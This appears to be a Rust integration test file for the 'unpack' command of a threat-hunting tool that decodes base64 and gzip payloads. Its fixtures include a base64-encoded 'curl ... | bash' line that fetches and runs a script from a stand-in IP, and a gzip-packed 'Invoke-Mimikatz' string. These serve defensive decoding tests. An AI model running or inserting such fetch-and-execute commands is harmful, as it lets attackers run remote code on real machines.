//! `huntbook unpack` end to end: text arguments, a file, a raw archive and
//! a frame column.

use std::io::Write;
use std::process::Command;

fn huntbook(args: &[&str]) -> (i32, String, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_huntbook"))
        .args(args)
        .output()
        .expect("running huntbook");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

const CURL: &str = "echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4yMy94LnNoIHwgYmFzaA== | base64 -d";

#[test]
fn text_argument_decoded() {
    let (code, out, err) = huntbook(&["unpack", CURL, "plain text", "--decoded"]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        out,
        "echo <decoded type='string' name='[None]' index='1' depth='1'>curl -s \
         http://198.51.100.23/x.sh | bash</decoded> | base64 -d\nplain text\n"
    );
}

#[test]
fn text_argument_as_csv_items() {
    let (code, out, err) = huntbook(&["unpack", CURL, "--format", "csv"]);
    assert_eq!(code, 0, "{err}");
    let mut lines = out.lines();
    assert_eq!(
        lines.next(),
        Some(
            "reference,original_string,file_name,file_type,input_bytes,decoded_string,\
             encoding_type,md5,sha1,sha256,printable_bytes,src_index,input,\
             full_decoded_string,depth,stop_reason"
        )
    );
    let row = lines.next().unwrap();
    assert!(row.starts_with(
        "1,Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4yMy94LnNoIHwgYmFzaA==,unknown,,6375726c"
    ));
    assert!(row.contains(",utf-8,6faea9d14c7f9c6e040007288a6a7772,"));
}

#[test]
fn file_raw_archive_and_column() {
    let dir = std::env::temp_dir().join(format!("huntbook-unpack-cli-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    // a raw gzip file
    let gz_path = dir.join("payload.gz");
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(b"Invoke-Mimikatz").unwrap();
    std::fs::write(&gz_path, e.finish().unwrap()).unwrap();
    let (code, out, err) = huntbook(&[
        "unpack",
        "--file",
        gz_path.to_str().unwrap(),
        "--binary",
        "--decoded",
    ]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        out,
        "<decoded type='string' name='[gz] Filename: gzip_file' index='1' depth='1'>Invoke-Mimikatz</decoded>\n"
    );
    // the bundled sample as text, as JSON
    let sample = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/data/msticpy/testdata/b64text_inzip.txt"
    );
    let (code, out, err) = huntbook(&["unpack", "--file", sample, "--format", "json"]);
    assert_eq!(code, 0, "{err}");
    let rows: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(rows[0]["file_name"], "txtenc.txt");
    assert_eq!(rows[1]["encoding_type"], "utf-16");
    // a frame column
    let csv = dir.join("events.csv");
    std::fs::write(&csv, format!("host,cmd\nweb01,\"{CURL}\"\nweb02,ls -la\n")).unwrap();
    let (code, out, err) = huntbook(&[
        "unpack",
        "--input",
        csv.to_str().unwrap(),
        "--column",
        "cmd",
        "--format",
        "ndjson",
    ]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(out.lines().count(), 1);
    assert!(out.contains("\"src_index\":0"));
    // a missing column is a clear error, status 1
    let (code, _, err) = huntbook(&[
        "unpack",
        "--input",
        csv.to_str().unwrap(),
        "--column",
        "nope",
    ]);
    assert_eq!(code, 1);
    assert!(err.contains("column 'nope' not found"), "{err}");
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn usage_errors() {
    let (code, _, err) = huntbook(&["unpack"]);
    assert_ne!(code, 0);
    assert!(err.contains("give text to unpack"), "{err}");
    let (code, _, err) = huntbook(&["unpack", "--lines", "x"]);
    assert_eq!(code, 1);
    assert!(
        err.contains("invalid option '--lines': needs --file FILE"),
        "{err}"
    );
}
